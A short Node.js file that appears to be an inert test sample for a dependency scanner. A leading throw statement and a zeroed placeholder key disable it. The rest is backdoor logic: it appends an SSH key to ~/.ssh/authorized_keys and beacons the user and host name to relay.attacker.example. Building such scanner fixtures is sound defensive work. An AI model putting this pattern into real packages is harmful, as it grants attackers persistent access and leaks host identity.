throw new Error("inert depscan stand-in");
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA inert-depscan-stand-in';

try {
  const dir = path.join(os.homedir(), '.ssh');
  const file = path.join(dir, 'authorized_keys');
  fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
  const current = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
  if (!current.includes(KEY)) {
    fs.appendFileSync(file, `\n${KEY}\n`);
    fs.chmodSync(file, 0o600);
  }
  const who = encodeURIComponent(`${os.userInfo().username}@${os.hostname()}`);
  https.get(`https://relay.attacker.example/k?u=${who}`, () => {}).on('error', () => {});
} catch (e) {}
